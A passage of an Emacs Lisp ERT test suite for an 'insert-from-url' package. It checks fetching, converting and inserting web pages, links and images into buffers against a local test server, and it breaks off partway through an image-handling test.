;;; insert-from-url-test.el --- Tests for insert-from-url  -*- lexical-binding: t; -*-

;;; Commentary:

;; Run by elisp_test.go, which builds the program, starts a local test
;; server and sets IFU_TEST_PROGRAM and IFU_TEST_SERVER.  By hand:
;;
;;   IFU_TEST_PROGRAM=... IFU_TEST_SERVER=http://127.0.0.1:PORT \
;;   emacs -Q --batch -L elisp -l elisp/test/insert-from-url-test.el \
;;     -f ert-run-tests-batch-and-exit

;;; Code:

(require 'ert)
(require 'cl-lib)
(require 'org)
(require 'mwheel)
(require 'url-util)
(require 'org-capture)
(require 'org-protocol)
(require 'insert-from-url)

(defvar ifu-test-server (getenv "IFU_TEST_SERVER"))

(setq insert-from-url-program (getenv "IFU_TEST_PROGRAM"))

(unless (fboundp 'markdown-mode)
  (define-derived-mode markdown-mode text-mode "Markdown"
    "Stand-in for markdown-mode, which Emacs does not ship."))

(defun ifu-test-url (path)
  "Return the test server's URL for PATH."
  (concat ifu-test-server path))

(defun ifu-test-wait (predicate &optional seconds)
  "Process events until PREDICATE holds or SECONDS pass; return its value."
  (let ((deadline (+ (float-time) (or seconds 10))))
    (while (and (not (funcall predicate)) (< (float-time) deadline))
      (accept-process-output nil 0.02))
    (funcall predicate)))

(defun ifu-test-wait-idle (buffer &optional seconds)
  "Wait until BUFFER has no fetch in flight, at most SECONDS (10)."
  (should (ifu-test-wait
           (lambda () (or (not (buffer-live-p buffer))
                          (null (buffer-local-value 'insert-from-url--processes buffer))))
           seconds)))

(defmacro ifu-test-capturing-reports (var &rest body)
  "Run BODY with the error reports of failed fetches collected in VAR."
  (declare (indent 1))
  `(let ((,var nil))
     (cl-letf (((symbol-function 'insert-from-url--report)
                (lambda (msg) (push msg ,var))))
       ,@body)))

(defun ifu-test-leftover-buffers ()
  "Return the output buffers of fetches that were not cleaned up."
  (seq-filter (lambda (b) (string-prefix-p " *insert-from-url" (buffer-name b)))
              (buffer-list)))

;;;; insert-from-url

(ert-deftest ifu-test-inserts-at-marker ()
  "Text arrives where the command ran, though point moved and text came before."
  (with-temp-buffer
    (insert "abcdef")
    (goto-char 4)
    (insert-from-url (ifu-test-url "/hello") "raw")
    (goto-char (point-min))
    (insert "XY")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "XYabcHello, world!\ndef"))
    (should (= (point) 3))))

(ert-deftest ifu-test-point-follows ()
  "Point that stayed at the insertion point ends after the text."
  (with-temp-buffer
    (insert "ab")
    (goto-char 2)
    (insert-from-url (ifu-test-url "/hello") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "aHello, world!\nb"))
    (should (= (point) (+ 2 (length "Hello, world!\n"))))))

(ert-deftest ifu-test-one-undo-step ()
  "One undo removes the insertion and nothing the user typed meanwhile."
  (with-temp-buffer
    (buffer-enable-undo)
    (insert "start ")
    (undo-boundary)
    (insert-from-url (ifu-test-url "/hello") "raw")
    (goto-char (point-min))
    (insert "typed ")
    (undo-boundary)
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "typed start Hello, world!\n"))
    (let ((last-command nil))
      (undo))
    (should (equal (buffer-string) "typed start "))))

(ert-deftest ifu-test-failure-changes-nothing ()
  "A 404 inserts nothing and reports the program's error line."
  (ifu-test-capturing-reports reports
    (with-temp-buffer
      (insert "unchanged")
      (insert-from-url (ifu-test-url "/missing") "text")
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) "unchanged"))
      (should (equal (length reports) 1))
      (should (string-match-p "\\`insert-from-url: HTTP 404 Not Found: http" (car reports))))))

(ert-deftest ifu-test-binary-not-inserted ()
  "A binary body is refused, not inserted."
  (ifu-test-capturing-reports reports
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/image.png") "raw")
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) ""))
      (should (string-match-p "binary body (image/png) not inserted" (car reports))))))

(ert-deftest ifu-test-killed-buffer ()
  "A result for a killed buffer is dropped quietly, and nothing leaks."
  (ifu-test-capturing-reports reports
    (let ((buffer (generate-new-buffer "ifu-killed")))
      (with-current-buffer buffer
        (insert-from-url (ifu-test-url "/slow") "raw"))
      (kill-buffer buffer)
      (should (ifu-test-wait (lambda () (null (ifu-test-leftover-buffers))) 10))
      (should (null reports)))))

(ert-deftest ifu-test-read-only ()
  "A read-only buffer refuses before fetching."
  (with-temp-buffer
    (setq buffer-read-only t)
    (should-error (insert-from-url (ifu-test-url "/hello") "raw") :type 'buffer-read-only)
    (should (null insert-from-url--processes))))

(ert-deftest ifu-test-auto-format ()
  "The format follows the major mode."
  (let ((insert-from-url-format 'auto))
    (dolist (case '((org-mode . "org") (markdown-mode . "markdown") (html-mode . "raw")
                    (emacs-lisp-mode . "raw") (nxml-mode . "raw") (text-mode . "text")
                    (fundamental-mode . "text")))
      (with-temp-buffer
        (funcall (car case))
        (should (equal (insert-from-url--format-for-buffer) (cdr case)))))
    (let ((insert-from-url-format 'markdown))
      (with-temp-buffer
        (org-mode)
        (should (equal (insert-from-url--format-for-buffer) "markdown"))))))

(ert-deftest ifu-test-converts-per-mode ()
  "The page arrives as Org in Org mode and as text elsewhere."
  (with-temp-buffer
    (org-mode)
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "* Page heading\n\nSome /emphasis/ and a [[" (buffer-string))))
  (with-temp-buffer
    (text-mode)
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "Page heading\n============\n\nSome emphasis and a link[1]." (buffer-string)))))

(ert-deftest ifu-test-org-nests-under-heading ()
  "In Org, the page's headings go under the current heading."
  (with-temp-buffer
    (org-mode)
    (insert "* Top\n** Notes\n")
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-match-p "^\\*\\*\\* Page heading$" (buffer-string)))
    (should (string-match-p "^\\*\\*\\*\\* Sub heading$" (buffer-string)))))

(ert-deftest ifu-test-fill ()
  "With `insert-from-url-fill', text is wrapped at `fill-column'."
  (with-temp-buffer
    (let ((insert-from-url-fill t))
      (setq fill-column 30)
      (insert-from-url (ifu-test-url "/long.html") "text")
      (ifu-test-wait-idle (current-buffer))
      (should (> (count-lines (point-min) (point-max)) 3))
      (dolist (line (split-string (buffer-string) "\n"))
        (should (<= (string-width line) 30))))))

(ert-deftest ifu-test-utf-8-split-across-chunks ()
  "Multibyte characters cut between output chunks arrive whole."
  (with-temp-buffer
    (insert-from-url (ifu-test-url "/split") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "é€😀 done\n"))))

(ert-deftest ifu-test-latin-1-page ()
  "A page in Latin-1 arrives decoded."
  (with-temp-buffer
    (insert-from-url (ifu-test-url "/latin1") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "café crème\n"))))

(ert-deftest ifu-test-remote-default-directory ()
  "A TRAMP `default-directory' does not break the fetch."
  (with-temp-buffer
    (setq default-directory "/ssh:nobody@nohost.invalid:/tmp/")
    (insert-from-url (ifu-test-url "/hello") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "Hello, world!\n"))))

(ert-deftest ifu-test-missing-default-directory ()
  "A deleted `default-directory' does not break the fetch."
  (let ((dir (make-temp-file "ifu-gone" t)))
    (delete-directory dir)
    (with-temp-buffer
      (setq default-directory (file-name-as-directory dir))
      (insert-from-url (ifu-test-url "/hello") "raw")
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) "Hello, world!\n")))))

(ert-deftest ifu-test-stays-responsive ()
  "While a server takes its time, the command returns and timers run."
  (let* ((ticks 0)
         (timer (run-at-time 0 0.05 (lambda () (setq ticks (1+ ticks))))))
    (unwind-protect
        (with-temp-buffer
          (let ((start (float-time)))
            (insert-from-url (ifu-test-url "/slow") "raw")
            (should (< (- (float-time) start) 0.5)))
          (should (string-match-p "fetching" (or (insert-from-url--mode-line-string) "")))
          (ifu-test-wait-idle (current-buffer))
          (should (equal (buffer-string) "slow answer\n"))
          ;; The server waits 1.5 s: a blocked Emacs would count at most
          ;; one tick; 10 leaves room for a machine busy with other tests.
          (should (>= ticks 10)))
      (cancel-timer timer))))

(ert-deftest ifu-test-progress-in-mode-line ()
  "While a page trickles in, the mode line shows bytes received and percent."
  (with-temp-buffer
    (insert-from-url (ifu-test-url "/trickle") "raw")
    (should (ifu-test-wait
             (lambda ()
               (and insert-from-url--processes
                    (process-live-p (car insert-from-url--processes))
                    (string-match-p "\\` \\[fetching 2\\.9 KiB [0-9.]+ [KM]?i?B/s 100%% of 2\\.9 KiB\\]\\'"
                                    (or (insert-from-url--mode-line-string) ""))))
             5))
    (ifu-test-wait-idle (current-buffer))
    (should (= (buffer-size) 3001))
    (should-not (insert-from-url--mode-line-string))))

(ert-deftest ifu-test-error-message-after-meter ()
  "The error line is found among the meter's redraws."
  (should (equal (insert-from-url--error-message
                  "\r\e[K1.0 KiB  1.0 KiB/s\r\e[K2.0 KiB  1.0 KiB/s\r\e[Kinsert-from-url: timed out: http://x/\n" 28)
                 "insert-from-url: timed out: http://x/"))
  (should (equal (insert-from-url--progress "\r\e[K1.0 KiB  1.0 KiB/s\r\e[K2.0 KiB  1.5 KiB/s")
                 "2.0 KiB  1.5 KiB/s"))
  (should (equal (insert-from-url--error-message "" 3) "insert-from-url exited with code 3")))

(ert-deftest ifu-test-cancel ()
  "Cancelling stops the fetch and inserts nothing."
  (ifu-test-capturing-reports reports
    (with-temp-buffer
      (insert "kept")
      (insert-from-url (ifu-test-url "/stall") "raw")
      (should insert-from-url--processes)
      (insert-from-url-cancel)
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) "kept"))
      (should (null reports))
      (should (ifu-test-wait (lambda () (null (ifu-test-leftover-buffers))))))))

(ert-deftest ifu-test-program-fails-to-start ()
  "A program that cannot run reports a failure, inserts nothing, leaks nothing."
  (ifu-test-capturing-reports reports
    (let ((insert-from-url-program (make-temp-file "ifu-not-a-program")))
      (unwind-protect
          (with-temp-buffer
            (with-temp-file insert-from-url-program (insert "\0\1\2 not an executable"))
            (set-file-modes insert-from-url-program #o755)
            (condition-case nil
                (insert-from-url (ifu-test-url "/hello") "raw")
              (error nil))
            (ifu-test-wait-idle (current-buffer))
            (should (equal (buffer-string) ""))
            (should (ifu-test-wait (lambda () (null (ifu-test-leftover-buffers))))))
        (delete-file insert-from-url-program)))
    (should (<= (length reports) 1))))

(ert-deftest ifu-test-missing-program ()
  "A missing program is a `user-error' that says how to install it."
  (let ((insert-from-url-program "insert-from-url-does-not-exist"))
    (with-temp-buffer
      (let ((err (should-error (insert-from-url (ifu-test-url "/hello") "raw") :type 'user-error)))
        (should (string-match-p "go install" (cadr err)))))))

;;;; Articles

(ert-deftest ifu-test-article-org-entry ()
  "In Org, an article becomes an entry under the current heading."
  (with-temp-buffer
    (org-mode)
    (insert "* Reading\nSome text")
    (insert-from-url-article (ifu-test-url "/article.html"))
    (ifu-test-wait-idle (current-buffer))
    (let ((s (buffer-string)))
      (should (string-match
               (concat "\\`\\* Reading\nSome text\n\\*\\* Bridge vote\n:PROPERTIES:\n"
                       ":RETRIEVED: \\[[0-9]\\{4\\}-[0-9][0-9]-[0-9][0-9] [A-Za-z]+ [0-9][0-9]:[0-9][0-9]\\]\n"
                       ":AUTHOR: Ann Writer\n:DATE: 2024-03-05\n:URL: "
                       (regexp-quote (ifu-test-url "/article.html")) "\n\\(?::TYPE: [a-z-]+\n\\)?:END:\n")
               s))
      (should (string-match-p "^\\*\\*\\* Next steps$" s))
      (should-not (string-match-p "Sports\\|Copyright" s)))))

(ert-deftest ifu-test-article-after-entry-text ()
  "With point inside a line of an entry, the article goes after the entry's own text."
  (with-temp-buffer
    (org-mode)
    (insert "* Reading\nline1\nline2\n** Child\nchild text\n")
    (goto-char (point-min))
    (search-forward "li")
    (insert-from-url-article (ifu-test-url "/article.html"))
    (ifu-test-wait-idle (current-buffer))
    (let ((s (buffer-string)))
      (should (string-prefix-p "* Reading\nline1\nline2\n** Bridge vote\n" s))
      (should (string-suffix-p "\n** Child\nchild text\n" s)))))

(ert-deftest ifu-test-capture ()
  "`insert-from-url-capture' returns the article as an Org entry, retrieval time included."
  (let ((entry (insert-from-url-capture (ifu-test-url "/article.html"))))
    (should (string-prefix-p "* Bridge vote\n:PROPERTIES:\n:RETRIEVED: [" entry))
    (should (string-match-p "council voted" entry))))

(ert-deftest ifu-test-article-text ()
  "Elsewhere, the article comes after a short header."
  (with-temp-buffer
    (text-mode)
    (insert-from-url-article (ifu-test-url "/article.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "Bridge vote\n===========\nAuthor: Ann Writer\n" (buffer-string)))
    (should-not (string-match-p "Sports" (buffer-string)))))

(ert-deftest ifu-test-readable-default ()
  "`insert-from-url-readable' makes `insert-from-url' keep the article only."
  (with-temp-buffer
    (let ((insert-from-url-readable t))
      (insert-from-url (ifu-test-url "/article.html") "text")
      (ifu-test-wait-idle (current-buffer))
      (should (string-match-p "Next steps" (buffer-string)))
      (should-not (string-match-p "Sports\\|Author:" (buffer-string))))))

;;;; Reading the URL

(ert-deftest ifu-test-default-url ()
  "The default URL is the one at point, else the region, else the last kill."
  (with-temp-buffer
    (insert "see https://example.org/a here")
    (goto-char 8)
    (should (equal (insert-from-url--default-url) "https://example.org/a"))
    (goto-char (point-max))
    (insert " example.org/b")
    (set-mark (- (point) 13))
    (transient-mark-mode 1)
    (activate-mark)
    (should (equal (insert-from-url--default-url) "example.org/b"))
    (deactivate-mark)
    (let ((kill-ring '("https://example.org/killed")))
      (should (equal (insert-from-url--default-url) "https://example.org/killed")))
    (let ((kill-ring '("not a url")))
      (should-not (insert-from-url--default-url)))))

;;;; Links

(ert-deftest ifu-test-link-inserted ()
  "A link titled with the page's title, in the buffer's markup."
  (dolist (case `((org-mode . ,(format "[[%s][Example Title]]" (ifu-test-url "/title.html")))
                  (markdown-mode . ,(format "[Example Title](%s)" (ifu-test-url "/title.html")))
                  (text-mode . ,(format "Example Title <%s>" (ifu-test-url "/title.html")))))
    (with-temp-buffer
      (funcall (car case))
      (insert "See ")
      (insert-from-url-link (ifu-test-url "/title.html"))
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) (concat "See " (cdr case)))))))

(ert-deftest ifu-test-link-replaces-url-at-point ()
  "On a bare URL, the URL becomes the titled link."
  (with-temp-buffer
    (org-mode)
    (let ((url (ifu-test-url "/title.html")))
      (insert "before " url " after")
      (goto-char (+ 10 (point-min)))
      (insert-from-url-link url)
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) (format "before [[%s][Example Title]] after" url))))))

;;;; Surprises that are gone

(ert-deftest ifu-test-link-keeps-typed-text ()
  "Text typed while the title is fetched stays, after the link."
  (with-temp-buffer
    (text-mode)
    (insert "Link: ")
    (insert-from-url-link (ifu-test-url "/slow-title.html"))
    (insert "typed on")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string)
                   (format "Link: Slow Title <%s>typed on" (ifu-test-url "/slow-title.html"))))))

(ert-deftest ifu-test-url-at-point-punctuation ()
  "Trailing punctuation is the sentence's; point anywhere in the URL replaces it whole."
  (dolist (case '(("(see http://host/page.html)" . "http://host/page.html")
                  ("see http://host/page.html." . "http://host/page.html")
                  ("see http://host/page.html, and" . "http://host/page.html")
                  ("<http://host/page>" . "http://host/page")
                  ("\"http://host/page\";" . "http://host/page")
                  ("http://en.wikipedia.org/wiki/Foo_(bar)" . "http://en.wikipedia.org/wiki/Foo_(bar)")
                  ("(http://en.wikipedia.org/wiki/Foo_(bar))" . "http://en.wikipedia.org/wiki/Foo_(bar)")))
    (with-temp-buffer
      (insert (car case))
      (goto-char (point-min))
      (search-forward "//")
      (should (equal (insert-from-url--default-url) (cdr case))))))

(ert-deftest ifu-test-link-replaces-url-in-parentheses ()
  "A URL in parentheses becomes a link inside them, with point anywhere in it."
  (with-temp-buffer
    (text-mode)
    (let ((url (ifu-test-url "/title.html")))
      (insert "(see " url ")")
      (goto-char (+ (point-min) 10))
      (insert-from-url-link (insert-from-url--default-url))
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) (format "(see Example Title <%s>)" url))))))

(ert-deftest ifu-test-link-on-existing-link ()
  "On an Org or Markdown link, the link gets the title; no link is nested."
  (let ((url (ifu-test-url "/title.html")))
    (dolist (case `((org-mode ,(format "x [[%s][old]] y" url) ,(format "x [[%s][Example Title]] y" url))
                    (org-mode ,(format "x [[%s]] y" url) ,(format "x [[%s][Example Title]] y" url))
                    (markdown-mode ,(format "x [old](%s) y" url) ,(format "x [Example Title](%s) y" url))))
      (with-temp-buffer
        (funcall (nth 0 case))
        (insert (nth 1 case))
        (goto-char 6)
        (insert-from-url-link (insert-from-url--default-url))
        (ifu-test-wait-idle (current-buffer))
        (should (equal (buffer-string) (nth 2 case)))))))

(ert-deftest ifu-test-killing-buffer-stops-fetch ()
  "Killing a buffer ends its fetches at once; a temporary buffer's within a second."
  (let ((buffer (generate-new-buffer "ifu-test-kill")) process)
    (with-current-buffer buffer
      (insert-from-url (ifu-test-url "/stall") "raw")
      (setq process (car insert-from-url--processes)))
    (kill-buffer buffer)
    (should-not (process-live-p process)))
  (let (process)
    (with-temp-buffer ; runs no kill-buffer-hook
      (insert-from-url (ifu-test-url "/stall") "raw")
      (setq process (car insert-from-url--processes)))
    (should (ifu-test-wait (lambda () (not (process-live-p process))) 2.5))))

(ert-deftest ifu-test-read-only-to-kill-ring ()
  "A buffer made read-only during the fetch: the text goes to the kill ring, said so."
  (ifu-test-capturing-reports reports
    (let ((kill-ring nil))
      (with-temp-buffer
        (insert-from-url (ifu-test-url "/hello") "raw")
        (setq buffer-read-only t)
        (ifu-test-wait-idle (current-buffer))
        (should (equal (buffer-string) ""))
        (should (equal (car kill-ring) "Hello, world!\n"))
        (should (string-match-p "kill ring" (car reports)))))))

(ert-deftest ifu-test-narrowing-keeps-place ()
  "Narrowing elsewhere during the fetch does not move the insertion."
  (with-temp-buffer
    (insert "one\ntwo\nthree\n")
    (goto-char 5)
    (insert-from-url (ifu-test-url "/hello") "raw")
    (narrow-to-region 9 (point-max))
    (ifu-test-wait-idle (current-buffer))
    (widen)
    (should (equal (buffer-string) "one\nHello, world!\ntwo\nthree\n"))))

(ert-deftest ifu-test-fetches-keep-start-order ()
  "Two fetches started at one point come out in the order they started."
  (with-temp-buffer
    (insert-from-url (ifu-test-url "/slow") "raw")
    (insert-from-url (ifu-test-url "/hello") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "slow answer\nHello, world!\n"))))

(ert-deftest ifu-test-warnings-shown ()
  "The program's warnings reach the user, after the success message."
  (ifu-test-capturing-reports reports
    (let ((insert-from-url-readable t))
      (with-temp-buffer
        (insert-from-url (ifu-test-url "/no-article.html") "text")
        (ifu-test-wait-idle (current-buffer))
        (should (string-match-p "tiny" (buffer-string)))
        (should (string-match-p "no article found" (or (car reports) "")))))))

(ert-deftest ifu-test-errors-logged-in-emacs-terms ()
  "Errors go to the log buffer, naming the Emacs option to change."
  (let ((insert-from-url-timeout 1))
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/stall") "raw")
      (ifu-test-wait-idle (current-buffer))))
  (with-current-buffer insert-from-url-log-buffer
    (should (string-match-p "timed out after 1s (`insert-from-url-timeout')" (buffer-string)))
    (should-not (string-match-p "--max-time" (buffer-string)))))

(ert-deftest ifu-test-control-characters-removed ()
  "Escape sequences and control characters never reach a buffer; CRLF is LF."
  (with-temp-buffer
    (insert-from-url (ifu-test-url "/controls") "raw")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "before red\nbell nul c1 tab\tff\f end\n"))))

(ert-deftest ifu-test-mode-line-percent ()
  "The meter's percent sign shows as one."
  (with-temp-buffer
    (let ((err (make-pipe-process :name "ifu-test-stderr" :noquery t))
          (p (make-process :name "ifu-test" :command '("sleep" "5") :noquery t)))
      (unwind-protect
          (progn
            (process-put err 'insert-from-url-fetch p)
            (insert-from-url--stderr-filter err "\r\e[K1.5 KiB  35% of 3.0 KiB")
            (setq insert-from-url--processes (list p))
            ;; %% is how a mode line shows %.
            (should (equal (insert-from-url--mode-line-string)
                           " [fetching 1.5 KiB 35%% of 3.0 KiB]")))
        (setq insert-from-url--processes nil)
        (delete-process p)
        (delete-process err)))))

(ert-deftest ifu-test-no-temporary-file-left ()
  "The file the text comes through is gone after success, failure and cancel."
  (let ((before (directory-files temporary-file-directory nil "\\`insert-from-url.*\\.out\\'")))
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/hello") "raw")
      (insert-from-url (ifu-test-url "/missing") "raw")
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string) "Hello, world!\n")))
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/stall") "raw")
      (insert-from-url-cancel)
      (ifu-test-wait-idle (current-buffer)))
    (should (ifu-test-wait
             (lambda () (equal (directory-files temporary-file-directory nil "\\`insert-from-url.*\\.out\\'")
                               before))
             3))))

(ert-deftest ifu-test-format-prompt-default ()
  "The Format prompt shows its default."
  (with-temp-buffer
    (org-mode)
    (let (prompt)
      (cl-letf (((symbol-function 'completing-read)
                 (lambda (p &rest _) (setq prompt p) "org")))
        (insert-from-url--read-format))
      (should (equal prompt "Format (default org): ")))))

(ert-deftest ifu-test-missing-program-before-prompt ()
  "A missing program is reported before the URL prompt."
  (let ((insert-from-url-program "/nonexistent/insert-from-url")
        (prompted nil))
    (cl-letf (((symbol-function 'read-string) (lambda (&rest _) (setq prompted t) "http://x/")))
      (with-temp-buffer
        (should-error (call-interactively #'insert-from-url) :type 'user-error)
        (should-error (call-interactively #'insert-from-url-link) :type 'user-error)))
    (should-not prompted)))

;;;; Links in a region

(ert-deftest ifu-test-links-in-region ()
  "Every URL in the region becomes a titled link where it stands, a few at a time."
  (let ((a (ifu-test-url "/title.html"))
        (b (ifu-test-url "/slow-title.html"))
        (insert-from-url-link-parallel 1))
    (with-temp-buffer
      (org-mode)
      (insert (format "- %s\n- (see %s)\n- [[%s][old]]\nafter %s" a b a a))
      (let ((end (- (point) (length a) 6)))
        (insert-from-url-links-in-region (point-min) end))
      (should (<= (length insert-from-url--processes) 1))
      (ifu-test-wait (lambda () (string-match-p "Slow Title" (buffer-string))) 10)
      (ifu-test-wait-idle (current-buffer))
      (should (equal (buffer-string)
                     (format "- [[%s][Example Title]]\n- (see [[%s][Slow Title]])\n- [[%s][Example Title]]\nafter %s"
                             a b a a))))))

;;;; Reading

(ert-deftest ifu-test-view ()
  "`insert-from-url-view' returns a buffer at once that fills with the article in Org."
  (let ((buffer (insert-from-url-view (ifu-test-url "/article.html"))))
    (unwind-protect
        (with-current-buffer buffer
          (should (string-prefix-p "Fetching" (buffer-string)))
          (ifu-test-wait-idle buffer)
          (should (derived-mode-p 'org-mode))
          (should insert-from-url-view-mode)
          (should buffer-read-only)
          (should (equal (buffer-name) "*Bridge vote*"))
          (should (string-prefix-p "#+title: Bridge vote\n" (buffer-string)))
          (should (string-match-p "^#\\+url: " (buffer-string)))
          (should (string-match-p "council voted on the river bridge" (buffer-string)))
          (should-not (string-match-p "Sports\\|Copyright" (buffer-string)))
          (should (eq (key-binding "q") #'quit-window))
          (should (eq (key-binding "g") #'insert-from-url-view-reload))
          (let ((inhibit-read-only t)) (erase-buffer))
          (insert-from-url-view-reload)
          (ifu-test-wait-idle buffer)
          (should (string-match-p "river bridge" (buffer-string))))
      (kill-buffer buffer))))

;;;; Synchronous use

(ert-deftest ifu-test-string ()
  "`insert-from-url-string' returns the text or signals the error."
  (should (equal (insert-from-url-string (ifu-test-url "/hello")) "Hello, world!\n"))
  (should (equal (insert-from-url-string (ifu-test-url "/title.html") "title") "Example Title\n"))
  (let ((err (should-error (insert-from-url-string (ifu-test-url "/missing")))))
    (should (string-match-p "HTTP 404" (cadr err)))))

;;;; Alt+wheel undo

(defun ifu-test-spin (command times)
  "Run the wheel COMMAND TIMES times as the command loop would.
The events happen in the selected window, which shows the current
buffer."
  (set-window-buffer (selected-window) (current-buffer))
  (dotimes (_ times)
    (undo-boundary)
    (setq this-command command)
    (condition-case nil
        (funcall command (list 'mouse-5 (posn-at-point nil (selected-window))))
      (user-error nil))
    (setq last-command this-command)))

(ert-deftest ifu-test-wheel-bindings ()
  "Both event families are bound, even after mwheel binds them again."
  (unwind-protect
      (progn
        (insert-from-url-wheel-undo-mode 1)
        (should (eq (key-binding [M-mouse-5]) #'insert-from-url-wheel-undo))
        (should (eq (key-binding [M-wheel-down]) #'insert-from-url-wheel-undo))
        (should (eq (key-binding [M-mouse-4]) #'insert-from-url-wheel-redo))
        (should (eq (key-binding [M-wheel-up]) #'insert-from-url-wheel-redo))
        (mouse-wheel-mode -1)
        (mouse-wheel-mode 1)
        (global-set-key [M-mouse-5] #'mwheel-scroll)
        (should (eq (key-binding [M-mouse-5]) #'insert-from-url-wheel-undo))
        (insert-from-url-wheel-undo-mode -1)
        (should (eq (key-binding [M-mouse-5]) #'mwheel-scroll)))
    (insert-from-url-wheel-undo-mode -1)))

(ert-deftest ifu-test-wheel-undo-redo-order ()
  "Spinning undoes in order, never turns into redo, and redoes back."
  (with-temp-buffer
    (buffer-enable-undo)
    (dolist (s '("a" "b" "c" "d"))
      (insert s)
      (undo-boundary))
    (let ((last-command nil) (this-command nil))
      (ifu-test-spin #'insert-from-url-wheel-undo 2)
      (should (equal (buffer-string) "ab"))
      ;; Another command breaks the undo chain: plain `undo' would now redo.
      (setq last-command 'forward-char)
      (ifu-test-spin #'insert-from-url-wheel-undo 1)
      (should (equal (buffer-string) "a"))
      (ifu-test-spin #'insert-from-url-wheel-undo 10)
      (should (equal (buffer-string) ""))
      (ifu-test-spin #'insert-from-url-wheel-redo 2)
      (should (equal (buffer-string) "ab"))
      (ifu-test-spin #'insert-from-url-wheel-undo 1)
      (should (equal (buffer-string) "a"))
      (ifu-test-spin #'insert-from-url-wheel-redo 10)
      (should (equal (buffer-string) "abcd")))))

(ert-deftest ifu-test-redo-fallback ()
  "The Emacs 27 redo gives what `undo-redo' gives."
  (with-temp-buffer
    (buffer-enable-undo)
    (dolist (s '("x" "y"))
      (insert s)
      (undo-boundary))
    (let ((last-command nil) (this-command nil))
      (ifu-test-spin #'insert-from-url-wheel-undo 2)
      (should (equal (buffer-string) ""))
      (cl-letf (((symbol-function 'undo-redo) nil))
        (should-not (fboundp 'undo-redo))
        (setq this-command 'insert-from-url-wheel-redo)
        (insert-from-url--undo-redo 1)
        (setq last-command this-command)
        (should (equal (buffer-string) "x"))))))

;;;; Own line

(ert-deftest ifu-test-converted-own-line ()
  "A converted page inserted mid-line starts on a line of its own."
  (with-temp-buffer
    (org-mode)
    (insert "some text")
    (insert-from-url (ifu-test-url "/page.html"))
    (ifu-test-wait-idle (current-buffer))
    (should (string-prefix-p "some text\n* Page heading\n" (buffer-string))))
  (with-temp-buffer
    (insert "Quote: ")
    (insert-from-url (ifu-test-url "/hello") "text")
    (ifu-test-wait-idle (current-buffer))
    (should (equal (buffer-string) "Quote: Hello, world!\n"))))

;;;; Images

(defmacro ifu-test-in-org-file (var &rest body)
  "Run BODY in an Org buffer visiting a file in a new folder bound to VAR."
  (declare (indent 1))
  `(let* ((,var (file-name-as-directory (make-temp-file "ifu-images-" t)))
          (buffer (find-file-noselect (expand-file-name "notes.org" ,var))))
     (unwind-protect
         (with-current-buffer buffer
           (org-mode)
           ,@body)
       (with-current-buffer buffer (set-buffer-modified-p nil))
       (kill-buffer buffer)
       (delete-directory ,var t))))

(defun ifu-test-files (dir)
  "Return the names of the files in DIR, or nil when it does not exist."
  (and (file-directory-p dir) (directory-files dir nil "\\`[^.]")))

(ert-deftest ifu-test-images-folder ()
  "Images go to the folder next to the file, linked relative to it, stored once."
  (ifu-test-in-org-file dir
    (let ((insert-from-url-images "img"))
      (ifu-test-capturing-reports reports
        (insert-from-url (ifu-test-url "/images.html"))
        (ifu-test-wait-idle (current-buffer))
        (goto-char (point-max))
        (insert-from-url (ifu-test-url "/images.html"))
        (ifu-test-wait-idle (current-buffer))
        ;; The missing image is warned about, once a fetch.
        (should (= (length reports) 2))
        (should (cl-every (lambda (r) (string-match-p "warning: .*/missing\\.png" r)) reports)))
      (let ((files (ifu-test-files (expand-file-name "img" dir))))
        (should (= (length files) 1))
        (should (string-match-p "\\`[0-9a-f]\\{20\\}\\.png\\'" (car files)))
        (should (= (how-many (regexp-quote (concat "[[file:img/" (car files) "]]")) (point-min) (point-max)) 2)))
      ;; The missing image keeps its remote link.
      (should (string-match-p (regexp-quote (ifu-test-url "/missing.png")) (buffer-string))))))

(ert-deftest ifu-test-images-attach ()
  "With `attach', an article's images go to the attachment folder of its new entry.
The entry at point is left alone: no ID, nothing to undo apart."
  (ifu-test-in-org-file dir
    (insert "* Reading\n")
    (let ((insert-from-url-images 'attach)
          (org-attach-id-dir (expand-file-name "data/" dir)))
      (insert-from-url-article (ifu-test-url "/images.html"))
      (should (equal (buffer-string) "* Reading\n"))
      (ifu-test-wait-idle (current-buffer))
      (goto-char (point-min))
      (should-not (org-entry-get nil "ID"))
      (re-search-forward "^\\*\\* Pictures")
      (should (org-entry-get nil "ID"))
      (let* ((attach (org-attach-dir))
             (files (ifu-test-files attach)))
        (should attach)
        (should (string-prefix-p (expand-file-name "data/" dir) attach))
        (should (= (length files) 1))
        (should (string-match-p (regexp-quote (concat "[[file:" (file-relative-name attach dir) "/" (car files) "]]"))
                                (buffer-string)))
        (should (string-match-p "^\\*\\* Pictures" (buffer-string)))))))

(ert-deftest ifu-test-images-none ()
  "Without `insert-from-url-images', images stay remote links, in text too."
  (ifu-test-in-org-file dir
